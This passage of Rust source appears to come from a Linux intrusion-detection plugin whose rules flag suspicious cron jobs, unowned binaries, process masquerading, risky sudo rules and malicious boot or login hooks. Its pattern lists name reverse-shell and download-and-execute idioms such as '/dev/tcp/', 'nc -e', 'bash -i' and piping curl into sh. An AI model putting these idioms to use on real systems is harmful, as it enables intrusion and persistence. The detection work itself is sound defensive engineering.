        return None;
    }
    unusual_location(path).or_else(|| {
        (ctx.has_package_db && !ctx.is_owned(path)).then(|| "no package owns it".to_string())
    })
}

fn cron_suspicious_path(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in ctx.cron.iter().filter(|c| c.rec.format != "user") {
        for prog in segment_programs(&c.rec.command) {
            if let Some(why) = suspicious_path(ctx, &prog) {
                let src = &c.rec.source.path;
                out.push(finding(
                    format!("{src}:{}", c.rec.line),
                    format!("{src} line {} runs {prog}: {why}", c.rec.line),
                    ctx.ev(
                        c,
                        format!("cron entry {src}:{}", c.rec.line),
                        Some(&c.rec.source),
                    ),
                    vec![
                        Ioc::Path(prog.clone()),
                        Ioc::CronCommand(c.rec.command.clone()),
                    ],
                ));
            }
        }
    }
    for s in ctx.cron_scripts.iter().filter(|s| s.rec.runs) {
        let target = s
            .rec
            .link_target
            .clone()
            .unwrap_or_else(|| s.rec.path.clone());
        let why = unusual_location(&target).or_else(|| {
            (ctx.has_package_db && !ctx.is_owned(&s.rec.path) && !ctx.is_owned(&target))
                .then(|| "no package owns it".to_string())
        });
        if let Some(why) = why {
            out.push(finding(
                &s.rec.path,
                format!("cron.{} runs {}: {why}", s.rec.period, s.rec.path),
                ctx.ev(
                    s,
                    format!("cron script {}", s.rec.path),
                    s.rec.source.as_ref(),
                ),
                vec![Ioc::Path(s.rec.path.clone())],
            ));
        }
    }
    out
}

/// Verified only because a hook file is there (judged by the hook rules, not as a program).
fn hook_only(v: &dossier_plugin_api::records::PackageVerify) -> bool {
    !v.referenced_by.is_empty() && v.referenced_by.iter().all(|r| r.starts_with("hook "))
}

/// Verified only as configuration or as a preloaded library, never run as a program.
fn not_a_program(v: &dossier_plugin_api::records::PackageVerify) -> bool {
    !v.referenced_by.is_empty()
        && v.referenced_by
            .iter()
            .all(|r| r.starts_with("hook ") || r == "ld.so.preload")
}

fn exec_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.verify
        .iter()
        .filter(|v| v.rec.status == "not_owned" && !not_a_program(&v.rec))
        .map(|v| {
            let mut iocs = vec![Ioc::Path(v.rec.path.clone())];
            iocs.extend(v.rec.sha256.clone().map(Ioc::Sha256));
            let mut ev = ctx.ev(
                v,
                format!("package verification of {}", v.rec.path),
                v.rec.copy.as_ref(),
            );
            ev.dedup_by(|a, b| a.member == b.member);
            finding(
                &v.rec.path,
                format!(
                    "{} (run by {}) is not owned by any installed package",
                    v.rec.path,
                    v.rec.referenced_by.join(", ")
                ),
                ev,
                iocs,
            )
        })
        .collect()
}

fn miner_strings(ctx: &Ctx, cfg: &AnalysisConfig, input: &mut BundleInput<'_>) -> Vec<Finding> {
    let Ok(ac) = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(&cfg.keywords)
    else {
        return vec![];
    };
    // (member, path, sha) of every executable copy in the bundle.
    let mut copies: Vec<(String, String, Option<String>)> = Vec::new();
    for p in &ctx.procs {
        if let (Some(m), Some(exe)) = (&p.rec.exe_member, &p.rec.exe) {
            copies.push((m.clone(), exe.clone(), p.rec.exe_sha256.clone()));
        }
    }
    for v in &ctx.verify {
        if let Some(m) = v.rec.copy.as_ref().and_then(|c| c.member.clone()) {
            copies.push((m, v.rec.path.clone(), v.rec.sha256.clone()));
        }
    }
    copies.sort();
    copies.dedup_by(|a, b| a.0 == b.0);
    let mut out = Vec::new();
    for (member, path, sha) in copies {
        let Ok(data) = (input.read_member)(&member, cfg.max_scan_bytes) else {
            continue;
        };
        let mut hits: Vec<&str> = ac
            .find_overlapping_iter(&data)
            .map(|m| cfg.keywords[m.pattern().as_usize()].as_str())
            .collect();
        hits.sort();
        hits.dedup();
        if hits.is_empty() {
            continue;
        }
        let ev = ctx
            .member_ev(&member, format!("copy of {path}"))
            .into_iter()
            .collect();
        let mut iocs = vec![Ioc::Path(path.clone())];
        iocs.extend(sha.map(Ioc::Sha256));
        out.push(finding(
            &path,
            format!(
                "{path} contains {}",
                hits.iter()
                    .map(|h| format!("`{h}`"))
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
            ev,
            iocs,
        ));
    }
    out
}

fn unit_local_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.units
        .iter()
        .filter(|u| {
            u.rec.unit_dir == "/etc/systemd/system"
                && u.rec.link_target.is_none()
                && !u.rec.masked
                && !ctx.is_owned(&u.rec.path)
        })
        .map(|u| {
            finding(
                &u.rec.name,
                format!(
                    "unit {} was created in /etc/systemd/system and no package owns it",
                    u.rec.name
                ),
                ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
                vec![Ioc::Unit(u.rec.name.clone()), Ioc::Path(u.rec.path.clone())],
            )
        })
        .collect()
}

fn proc_iocs(p: &At<dossier_plugin_api::records::ProcessRecord>) -> Vec<Ioc> {
    let mut v = vec![Ioc::Pid(p.rec.pid)];
    v.extend(p.rec.exe.clone().map(Ioc::Path));
    v.extend(p.rec.exe_sha256.clone().map(Ioc::Sha256));
    v
}

fn proc_ev(ctx: &Ctx, p: &At<dossier_plugin_api::records::ProcessRecord>) -> Vec<Evidence> {
    let mut ev = ctx.ev(p, format!("process {} ({})", p.rec.pid, p.rec.comm), None);
    if let Some(m) = &p.rec.exe_member {
        ev.extend(ctx.member_ev(
            m,
            format!("copy of the executable of process {}", p.rec.pid),
        ));
    }
    ev
}

fn deleted_exe_running(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.procs
        .iter()
        .filter(|p| p.rec.exe_deleted && !p.rec.kernel_thread)
        .map(|p| {
            finding(
                format!("pid {}", p.rec.pid),
                format!(
                    "process {} ({}) runs {}, which was deleted from disk",
                    p.rec.pid,
                    p.rec.comm,
                    p.rec.exe.as_deref().unwrap_or("?")
                ),
                proc_ev(ctx, p),
                proc_iocs(p),
            )
        })
        .collect()
}

/// Names of kernel threads as `ps` shows them without brackets (`kworker/0:1`,
/// `ksoftirqd/0`...): a process with an executable never legitimately carries one.
const KTHREAD_NAMES: &[&str] = &[
    "kworker",
    "kthreadd",
    "ksoftirqd",
    "kswapd",
    "kcompactd",
    "khugepaged",
    "kdevtmpfs",
    "kauditd",
    "kblockd",
    "migration/",
    "watchdog/",
    "cpuhp/",
    "rcu_",
    "irq/",
    "jbd2/",
    "oom_reaper",
];

/// Whether a process name imitates a kernel thread: `[...]` as `ps` shows kernel threads, or
/// a kernel thread's own name.
fn kernel_thread_name(name: &str) -> bool {
    (name.starts_with('[') && name.ends_with(']'))
        || KTHREAD_NAMES.iter().any(|k| name.starts_with(k))
}

/// Why a user-space process's name does not fit its executable, if it does not: it calls itself
/// like a kernel thread, or its argv[0] names another program. Process titles (`sshd: user`,
/// `nginx: master process`, `postgres: ...`), systemd's `(sd-pam)`, login shells (`-bash`),
/// interpreters and busybox applets (`python3` running python3.11), programs re-executed
/// through `/proc/self/exe`, memfd executables (their name is arbitrary), and a packaged name for a packaged executable (a packaged
/// symlink such as mysqld → mariadbd) are not judged. Shared by `process-masquerade` and
/// `renamed-process-listening`.
fn masquerade_reason(ctx: &Ctx, p: &dossier_plugin_api::records::ProcessRecord) -> Option<String> {
    if p.kernel_thread {
        return None;
    }
    let exe = p.exe.as_deref()?;
    let arg0 = p.argv.first().map(String::as_str).unwrap_or("");
    let ebase = base(exe);
    if kernel_thread_name(arg0) || kernel_thread_name(&p.comm) {
        return Some(format!(
            "calls itself `{}` like a kernel thread but runs {exe}",
            if kernel_thread_name(arg0) {
                arg0
            } else {
                &p.comm
            }
        ));
    }
    let a = base(arg0.trim_start_matches('-'));
    let title =
        arg0.contains(' ') || arg0.contains(':') || (arg0.starts_with('(') && arg0.ends_with(')'));
    let packaged_alias =
        arg0.starts_with('/') && ctx.has_package_db && ctx.is_owned(arg0) && ctx.is_owned(exe);
    // A memfd's name is whatever its creator chose (fexecve gives a bare fd number as comm):
    // nothing to compare; deleted-exe-running and exec-unusual-path judge such programs.
    let judged = !arg0.is_empty()
        && !exe.starts_with("/memfd:")
        && !title
        && a != "exe"
        && !packaged_alias
        && !is_interpreter(ebase)
        && !is_interpreter(a);
    (judged
        && !a.is_empty()
        && !ebase.starts_with(a)
        && !a.starts_with(ebase)
        && !names_match(a, ebase))
    .then(|| format!("argv[0] is `{arg0}` but the executable is {exe}"))
}

fn process_masquerade(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.procs
        .iter()
        .filter_map(|p| {
            let why = masquerade_reason(ctx, &p.rec)?;
            Some(finding(
                format!("pid {}", p.rec.pid),
                format!("process {} {why}", p.rec.pid),
                proc_ev(ctx, p),
                proc_iocs(p),
            ))
        })
        .collect()
}

fn package_hash_mismatch(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.verify
        .iter()
        .filter(|v| {
            v.rec.status == "mismatch" && !v.rec.path.starts_with("/etc/") && !hook_only(&v.rec)
        })
        .map(|v| {
            let mut iocs = vec![Ioc::Path(v.rec.path.clone())];
            iocs.extend(v.rec.sha256.clone().map(Ioc::Sha256));
            let pkg = v.rec.package.as_deref().unwrap_or("?");
            let mut ev = ctx.ev(
                v,
                format!("package verification of {}", v.rec.path),
                v.rec.copy.as_ref(),
            );
            ev.extend(v.rec.digest_source.as_ref().and_then(|d| {
                Some(Evidence {
                    member: d.member.clone()?,
                    sha256: d.sha256.clone()?,
                    line: None,
                    what: format!("digest list of package {pkg}"),
                })
            }));
            finding(
                &v.rec.path,
                format!(
                    "{} from package {pkg} hashes to {} but the package says {}",
                    v.rec.path,
                    v.rec.actual.as_deref().unwrap_or("?"),
                    v.rec.expected.as_deref().unwrap_or("?")
                ),
                ev,
                iocs,
            )
        })
        .collect()
}

const STRONG_SHELL: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "base64 -d",
    "base64 --decode",
    "base64 -di",
    "bash -i",
    "sh -i",
    "nc -e",
    "ncat -e",
    "nc -c",
    "mkfifo",
    "python -c",
    "python3 -c",
    "perl -e",
    "eval $(",
    "| sh",
    "|sh",
    "| bash",
    "|bash",
    "wget -q -o -",
    "wget -qo-",
    "curl -s",
    "curl -fssl",
    "chmod +x /tmp",
    "chmod 777 /tmp",
];

/// Why a command line looks like inline shell or download-and-execute, if it does.
pub fn shell_pattern(cmd: &str, owned: bool) -> Option<String> {
    let l = cmd.to_ascii_lowercase();
    let downloads = l.contains("curl ") || l.contains("wget ") || l.contains("fetch ");
    if downloads
        && (l.contains("| sh")
            || l.contains("|sh")
            || l.contains("| bash")
            || l.contains("|bash")
            || l.contains("chmod +x"))
    {
        return Some("downloads and executes".into());
    }
    if let Some(p) = STRONG_SHELL.iter().find(|p| l.contains(*p)) {
        return Some(format!("uses `{}`", p.trim()));
    }
    if !owned && (l.contains("sh -c") || l.contains("bash -c")) {
        return Some("runs an inline shell script (`sh -c`)".into());
    }
    None
}

fn inline_shell_download(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for u in &ctx.units {
        let owned = ctx.has_package_db && ctx.is_owned(&u.rec.path);
        for cmd in unit_commands(&u.rec) {
            if let Some(why) = shell_pattern(cmd, owned) {
                out.push(finding(
                    &u.rec.name,
                    format!("unit {} {why}: `{cmd}`", u.rec.name),
                    ctx.ev(u, format!("unit {}", u.rec.name), Some(&u.rec.source)),
                    vec![Ioc::Unit(u.rec.name.clone())],
                ));
            }
        }
    }
    for c in &ctx.cron {
        let owned = ctx.has_package_db && ctx.is_owned(&c.rec.source.path);
        if let Some(why) = shell_pattern(&c.rec.command, owned) {
            let src = &c.rec.source.path;
            out.push(finding(
                format!("{src}:{}", c.rec.line),
                format!("{src} line {} {why}: `{}`", c.rec.line, c.rec.command),
                ctx.ev(
                    c,
                    format!("cron entry {src}:{}", c.rec.line),
                    Some(&c.rec.source),
                ),
                vec![Ioc::CronCommand(c.rec.command.clone())],
            ));
        }
    }
    out
}

/// Seconds of a systemd time span (`5min`, `30s`, `1h 5min`, `300`), when parseable.
pub fn span_seconds(s: &str) -> Option<u64> {
    let mut total = 0u64;
    let mut any = false;
    for part in s.split_whitespace() {
        let idx = part
            .find(|c: char| !c.is_ascii_digit())
            .unwrap_or(part.len());
        let (n, unit) = part.split_at(idx);
        let n: u64 = n.parse().ok()?;
        let mult = match unit {
            "" | "s" | "sec" | "second" | "seconds" => 1,
            "m" | "min" | "minute" | "minutes" => 60,
            "h" | "hr" | "hour" | "hours" => 3600,
            "d" | "day" | "days" => 86400,
            "ms" | "msec" => 0,
            _ => return None,
        };
        total += n * mult;
        any = true;
    }
    any.then_some(total)
}

fn aggressive_timer(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for u in ctx
        .units
        .iter()
        .filter(|u| u.rec.unit_type == "timer" && !ctx.is_owned(&u.rec.path))
    {
        let Some(t) = &u.rec.timer else { continue };
        let short = t
            .on_unit_active_sec
            .iter()
            .chain(&t.on_boot_sec)
            .chain(&t.on_active_sec)
            .chain(&t.on_startup_sec)
            .chain(&t.on_unit_inactive_sec)
            .find(|s| span_seconds(s).is_some_and(|n| n <= 300));
        let cal = t.on_calendar.iter().find(|c| {
            let c = c.to_ascii_lowercase();
            c == "minutely"
                || c.contains("*:*")
                || c.contains(":0/")
                || c.contains("*:0/")
                || c.ends_with("/1")
                || c.ends_with("/5")
        });
        if let Some(s) = short.or(cal) {
            out.push(finding(
                &u.rec.name,
                format!(
                    "timer {} (no package owns it) starts {} every `{s}`",
                    u.rec.name, t.unit
                ),
                ctx.ev(u, format!("timer {}", u.rec.name), Some(&u.rec.source)),
                vec![Ioc::Unit(u.rec.name.clone()), Ioc::Unit(t.unit.clone())],
            ));
        }
    }
    out
}

fn interpreter_listening(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for s in ctx.sockets.iter().filter(|s| s.rec.listening) {
        for name in s.rec.processes.iter().filter(|n| is_interpreter(n)) {
            let mut iocs = vec![Ioc::Port(s.rec.local_port)];
            iocs.extend(s.rec.pids.iter().map(|p| Ioc::Pid(*p)));
            out.push(finding(
                format!("{}/{}", s.rec.protocol, s.rec.local_port),
                format!(
                    "{name} (pid {}) listens on {} {}:{}",
                    s.rec
                        .pids
                        .iter()
                        .map(u32::to_string)
                        .collect::<Vec<_>>()
                        .join(","),
                    s.rec.protocol,
                    s.rec.local_addr,
                    s.rec.local_port
                ),
                ctx.ev(
                    s,
                    format!("socket {}:{}", s.rec.local_addr, s.rec.local_port),
                    Some(&s.rec.source),
                ),
                iocs,
            ));
        }
    }
    out
}

fn renamed_process_listening(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for s in ctx.sockets.iter().filter(|s| s.rec.listening) {
        for pid in &s.rec.pids {
            let Some(p) = ctx
                .procs
                .iter()
                .find(|p| p.rec.pid == *pid && !p.rec.kernel_thread)
            else {
                continue;
            };
            let exe = p.rec.exe.as_deref().unwrap_or("?");
            let why = masquerade_reason(ctx, &p.rec).or_else(|| {
                if exe.starts_with("/memfd:") {
                    Some(format!(
                        "runs {exe}, a memory-only (fileless) executable with no file on disk"
                    ))
                } else if p.rec.exe_deleted {
                    let upgraded = ctx.has_package_db && ctx.is_owned(exe);
                    Some(format!(
                        "runs {exe}, which was deleted from disk{}",
                        if upgraded {
                            " (a package owns that path: possibly a daemon not restarted after an upgrade)"
                        } else {
                            ""
                        }
                    ))
                } else {
                    None
                }
            });
            let Some(why) = why else { continue };
            let mut iocs = vec![Ioc::Port(s.rec.local_port)];
            iocs.extend(proc_iocs(p));
            let mut ev = ctx.ev(
                s,
                format!("socket {}:{}", s.rec.local_addr, s.rec.local_port),
                Some(&s.rec.source),
            );
            ev.extend(proc_ev(ctx, p));
            out.push(finding(
                format!("{}/{}", s.rec.protocol, s.rec.local_port),
                format!(
                    "process {} ({}) listens on {} {}:{} and {why}",
                    p.rec.pid, p.rec.comm, s.rec.protocol, s.rec.local_addr, s.rec.local_port
                ),
                ev,
                iocs,
            ));
        }
    }
    out
}

fn suspicious_port(ctx: &Ctx, cfg: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for s in &ctx.sockets {
        let procs = if s.rec.processes.is_empty() {
            "unknown process".to_string()
        } else {
            s.rec.processes.join(",")
        };
        if s.rec.listening && cfg.suspicious_ports.contains(&s.rec.local_port) {
            out.push(finding(
                format!("{}/{}", s.rec.protocol, s.rec.local_port),
                format!(
                    "{procs} listens on {} port {}, a known miner/backdoor port",
                    s.rec.protocol, s.rec.local_port
                ),
                ctx.ev(
                    s,
                    format!("socket {}:{}", s.rec.local_addr, s.rec.local_port),
                    Some(&s.rec.source),
                ),
                vec![Ioc::Port(s.rec.local_port)],
            ));
        } else if !s.rec.listening
            && s.rec.remote_port != 0
            && cfg.suspicious_ports.contains(&s.rec.remote_port)
        {
            out.push(finding(
                format!("{}:{}", s.rec.remote_addr, s.rec.remote_port),
                format!(
                    "{procs} is connected to {}:{}, a known miner/backdoor port",
                    s.rec.remote_addr, s.rec.remote_port
                ),
                ctx.ev(
                    s,
                    format!("socket to {}:{}", s.rec.remote_addr, s.rec.remote_port),
                    Some(&s.rec.source),
                ),
                vec![
                    Ioc::Address(s.rec.remote_addr.clone()),
                    Ioc::Port(s.rec.remote_port),
                ],
            ));
        }
    }
    out
}

fn ld_preload(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.procs
        .iter()
        .filter(|p| {
            p.rec
                .ld_preload
                .as_deref()
                .is_some_and(|v| !v.trim().is_empty())
        })
        .map(|p| {
            let lib = p.rec.ld_preload.clone().unwrap_or_default();
            let mut iocs = proc_iocs(p);
            iocs.extend(
                lib.split([':', ' '])
                    .filter(|s| s.starts_with('/'))
                    .map(|s| Ioc::Path(s.to_string())),
            );
            finding(
                format!("pid {}", p.rec.pid),
                format!(
                    "process {} ({}) runs with LD_PRELOAD={lib}",
                    p.rec.pid, p.rec.comm
                ),
                proc_ev(ctx, p),
                iocs,
            )
        })
        .collect()
}

fn account_ev(ctx: &Ctx, a: &At<dossier_plugin_api::records::AccountRecord>) -> Vec<Evidence> {
    ctx.ev(
        a,
        format!("account {} (/etc/passwd line {})", a.rec.name, a.rec.line),
        Some(&a.rec.source),
    )
}

fn password_words(p: &str) -> &'static str {
    match p {
        "usable" => "a usable password",
        "empty" => "an EMPTY password (no password needed)",
        "locked" => "a locked password",
        "disabled" => "no password",
        "no_entry" => "no shadow entry",
        _ => "an unknown password status",
    }
}

fn account_extra_uid0(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    ctx.accounts
        .iter()
        .filter(|a| a.rec.uid == 0 && a.rec.name != "root")
        .map(|a| {
            finding(
                &a.rec.name,
                format!(
                    "account `{}` has uid 0 (shell {}, home {}, {}{})",
                    a.rec.name,
                    a.rec.shell,
                    a.rec.home,
                    password_words(&a.rec.password),
                    a.rec
                        .last_change
                        .as_deref()
                        .map(|d| format!(", last changed {d}"))
                        .unwrap_or_default()
                ),
                account_ev(ctx, a),
                vec![Ioc::Account(a.rec.name.clone())],
            )
        })
        .collect()
}

const NO_LOGIN_SHELLS: &[&str] = &["nologin", "false", "sync", "halt", "shutdown"];

fn login_shell(a: &dossier_plugin_api::records::AccountRecord) -> bool {
    let b = base(&a.shell);
    !a.shell.is_empty() && !NO_LOGIN_SHELLS.contains(&b) && a.shell_listed != Some(false)
}

fn system_account_usable(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let mut out = Vec::new();
    for a in ctx
        .accounts
        .iter()
        .filter(|a| a.rec.uid != 0 && a.rec.uid < 1000 && login_shell(&a.rec))
    {
        let mut why = Vec::new();
        let mut ev = account_ev(ctx, a);
        if matches!(a.rec.password.as_str(), "usable" | "empty") {
            why.push(password_words(&a.rec.password).to_string());
        }
        for k in ctx
            .ssh_keys
            .iter()
            .filter(|k| k.rec["user"].as_str() == Some(a.rec.name.as_str()))
        {
            why.push(format!(
                "an authorized SSH key ({})",
                k.rec["fingerprint"].as_str().unwrap_or("?")
            ));
            ev.extend(ctx.ev(k, format!("authorized key of {}", a.rec.name), None));
        }
        if why.is_empty() {
            continue;
        }
        out.push(finding(
            &a.rec.name,
            format!(
                "service account `{}` (uid {}) has the login shell {} and {}",
                a.rec.name,
                a.rec.uid,
                a.rec.shell,
                why.join(" and ")
            ),
            ev,
            vec![Ioc::Account(a.rec.name.clone())],
        ));
    }
    out
}

const ADMIN_GROUPS: &[&str] = &["sudo", "wheel", "admin", "root"];

fn sudo_nopasswd_all(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    let in_admin_group = |user: &str| {
        ctx.groups.iter().any(|g| {
            ADMIN_GROUPS.contains(&g.rec.name.as_str()) && g.rec.members.iter().any(|m| m == user)
        }) || ctx.accounts.iter().any(|a| {
            a.rec.name == user
                && ctx
                    .groups
                    .iter()
                    .any(|g| g.rec.gid == a.rec.gid && ADMIN_GROUPS.contains(&g.rec.name.as_str()))
        })
    };
    let mut out = Vec::new();
    for r in ctx
        .sudo
        .iter()
        .filter(|r| r.rec.nopasswd_all && !r.rec.ignored_by_sudo)
    {
        let outsiders: Vec<&String> = r
            .rec
            .principals
            .iter()
            .filter(|p| {
                if let Some(g) = p.strip_prefix('%') {
                    !ADMIN_GROUPS.contains(&g.trim_start_matches(':'))
                } else {
                    p.as_str() != "root" && p.as_str() != "#0" && !in_admin_group(p)
                }
            })
            .collect();
        if outsiders.is_empty() {
            continue;
        }
        let src = &r.rec.source.path;
        let mut iocs = vec![Ioc::ConfigLine(r.rec.text.clone()), Ioc::Path(src.clone())];
        iocs.extend(
            outsiders
                .iter()
                .filter(|p| !p.starts_with('%'))
                .map(|p| Ioc::Account((*p).clone())),
        );
        out.push(finding(
            format!("{src}:{}", r.rec.line),
            format!(
                "{src} line {} lets {} run ALL commands as root without a password: `{}`",
                r.rec.line,
                outsiders
                    .iter()
                    .map(|p| format!("`{p}`"))
                    .collect::<Vec<_>>()
                    .join(", "),
                r.rec.text
            ),
            ctx.ev(
                r,
                format!("sudoers rule {src}:{}", r.rec.line),
                Some(&r.rec.source),
            ),
            iocs,
        ));
    }
    out
}

/// How a file stands against the package database: `Some(why)` when it is not owned or was
/// modified, `None` when owned and unchanged (or not verifiable).
fn ownership_problem(ctx: &Ctx, path: &str) -> Option<String> {
    match ctx.verified(path) {
        Some(v) if v.rec.status == "not_owned" => Some("no package owns it".into()),
        Some(v) if v.rec.status == "mismatch" => Some(format!(
            "it differs from the digest of package {}",
            v.rec.package.as_deref().unwrap_or("?")
        )),
        Some(_) => None,
        None => (!ctx.is_owned(path)).then(|| "no package owns it".into()),
    }
}

/// The path an rc?.d link runs, resolved against its directory.
fn rc_link_target(path: &str, target: &str) -> String {
    if target.starts_with('/') {
        return target.to_string();
    }
    let mut parts: Vec<&str> = path
        .rsplit_once('/')
        .map_or("", |(d, _)| d)
        .split('/')
        .collect();
    for c in target.split('/') {
        match c {
            ".." => {
                parts.pop();
            }
            "." | "" => {}
            c => parts.push(c),
        }
    }
    parts.join("/")
}

fn hook_ev(ctx: &Ctx, h: &At<dossier_plugin_api::records::HookRecord>) -> Vec<Evidence> {
    ctx.ev(
        h,
        format!("{} hook {}", h.rec.class, h.rec.path),
        h.rec.source.as_ref(),
    )
}

fn hook_iocs(h: &dossier_plugin_api::records::HookRecord) -> Vec<Ioc> {
    let mut v = vec![Ioc::Path(h.path.clone())];
    v.extend(
        h.source
            .as_ref()
            .and_then(|s| s.sha256.clone())
            .map(Ioc::Sha256),
    );
    v
}

const LOGIN_CLASSES: &[&str] = &["profile", "profile.d", "bash.bashrc"];

/// Hook classes judged by their own rules (pkg-manager-hook, pam-*, polkit-rule-unowned),
/// not by boot-hook-unowned.
const PKG_AUTH_CLASSES: &[&str] = &[
    "apt",
    "yum-plugin",
    "dnf-plugin",
    "pam",
    "pam-module",
    "polkit",
];

fn hook_ownership(ctx: &Ctx, login: bool) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx.hooks.iter().filter(|h| {
        h.rec.active
            && h.rec.owner.is_none()
            && LOGIN_CLASSES.contains(&h.rec.class.as_str()) == login
            && !PKG_AUTH_CLASSES.contains(&h.rec.class.as_str())
    }) {
        let judged = match (&h.rec.link_target, h.rec.class.as_str()) {
            (Some(t), "rc-link") => {
                let real = rc_link_target(&h.rec.path, t);
                if real.starts_with("/etc/init.d/") {
                    continue; // the init script is judged itself
                }
                real
            }
            _ => h.rec.path.clone(),
        };
        // An identical copy of a packaged template (Debian's /etc/profile) is as good as
        // owned, provided the template itself is.
        if let Some(t) = &h.rec.copy_of {
            if ownership_problem(ctx, t).is_none() {
                continue;
            }
        }
        let Some(why) = ownership_problem(ctx, &judged) else {
            continue;
        };
        let what = if judged == h.rec.path {
            h.rec.path.clone()
        } else {
            format!("{} (-> {judged})", h.rec.path)
        };
        out.push(finding(
            &h.rec.path,
            format!(
                "{} hook {what}, run at {}: {why}",
                h.rec.class, h.rec.runs_at
            ),
            hook_ev(ctx, h),
            hook_iocs(&h.rec),
        ));
    }
    out
}

fn boot_hook_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    hook_ownership(ctx, false)
}

fn login_hook_unowned(ctx: &Ctx, _: &AnalysisConfig, _: &mut BundleInput<'_>) -> Vec<Finding> {
    hook_ownership(ctx, true)
}

const SHELL_WORDS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "busybox", "python", "python2", "python3", "perl",
    "ruby", "php",
];

/// Whether the word after a pipe runs a shell or interpreter (`| sh`, `| /bin/bash -s`).
fn pipes_into_shell(l: &str) -> bool {
    l.split('|').skip(1).any(|seg| {
        let w = seg
            .split_whitespace()
            .map(|w| w.trim_matches(|c: char| "'\"`();{}".contains(c)))
            .find(|w| !matches!(*w, "sudo" | "env" | "exec" | "-" | ""))
            .unwrap_or("");
        SHELL_WORDS.contains(&base(w))
    })
}

/// Why one line of a boot or login hook is dangerous, if it is.
pub fn hook_line_pattern(line: &str) -> Option<String> {
    let l = line.trim().to_ascii_lowercase();
    if l.is_empty() || l.starts_with('#') {
        return None;
    }
    let downloads = ["curl ", "wget ", "fetch ", "curl\t"]
        .iter()
        .any(|d| l.contains(d));
    if downloads
        && (pipes_into_shell(&l)
            || l.contains("$(curl")
            || l.contains("<(curl")
            || l.contains("$(wget")
            || l.contains("<(wget"))
    {
        return Some("downloads and executes".into());
    }
    if let Some(d) = ["/dev/tcp/", "/dev/udp/"].iter().find(|d| l.contains(*d)) {
        return Some(format!(
            "opens a network connection through `{}`",
            d.trim_end_matches('/')
        ));
    }
    let b64 = [
        "base64 -d",
        "base64 --decode",
        "base64 -di",
        "b64decode",
        "openssl base64 -d",
        "openssl enc -d -base64",
    ]
    .iter()
    .any(|p| l.contains(p));
    if b64
        && (pipes_into_shell(&l)
            || l.contains("eval")
            || l.contains("exec")
            || l.contains("$(")
            || l.contains('`'))
    {
        return Some("decodes base64 and executes it".into());
    }
    // A command line quoted for `sh -c '...'` or a udev `RUN+="..."` ends with its quote.
    let end = l.trim_end_matches(|c: char| c == '\'' || c == '"' || c.is_whitespace());
    let bg = end.ends_with('&') && !end.ends_with("&&")
        || l.contains("& disown")
        || l.contains("&)")
        || l.contains("& )");
    if bg {
        let shellish = [
            "bash -i", "sh -i", "nohup", "setsid", "nc ", "ncat ", "netcat ", "socat ",
        ]
        .iter()
        .any(|p| l.contains(p));
        // Quotes delimit commands too: `sh -c '/tmp/.x/agent &'`.
        let odd_place = segment_programs(&l.replace(['\'', '"'], ";"))
            .iter()
            .any(|p| unusual_location(p).is_some());
        if shellish || odd_place {
            return Some("starts a shell or program in the background".into());
        }
    }
    None
}

/// Why a command a hook names (apt hook, pam_exec) is dangerous: a dangerous line pattern,
/// or a program run from an unusual place.
fn command_pattern(cmd: &str) -> Option<String> {
    hook_line_pattern(cmd).or_else(|| {
        segment_programs(cmd)
            .iter()
            .find_map(|p| unusual_location(p).map(|why| format!("runs `{p}`, and {why}")))
    })
}

fn hook_malicious_content(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for h in ctx.hooks.iter().filter(|h| h.rec.active) {
        let Some(src) = &h.rec.source else { continue };
        let Some(member) = &src.member else { continue };
        if h.rec.owner.is_none()
            && ctx
                .verified(&h.rec.path)
                .is_some_and(|v| v.rec.status == "ok")
        {
            continue;
        }
        let Ok(data) = (input.read_member)(member, cfg.max_scan_bytes.min(16 << 20)) else {
            continue;
        };
        let text = String::from_utf8_lossy(&data);
        // One finding per file: the first dangerous line, with the count of the others.
        let mut hits: Vec<(usize, &str, String)> = text
            .lines()
            .enumerate()
            .filter_map(|(i, l)| hook_line_pattern(l).map(|why| (i + 1, l.trim(), why)))
            .collect();
        // Commands parsed out of apt and PAM syntax (an apt list item may span lines; a
        // pam_exec program is dangerous by where it lives).
        if hits.is_empty() {
            hits.extend(h.rec.commands.iter().filter_map(|c| {
                let why = command_pattern(c)?;
                let lineno = text
                    .lines()
                    .position(|l| l.contains(c.lines().next().unwrap_or(c)))
                    .map_or(0, |i| i + 1);
                Some((lineno, c.as_str(), why))
            }));
        }
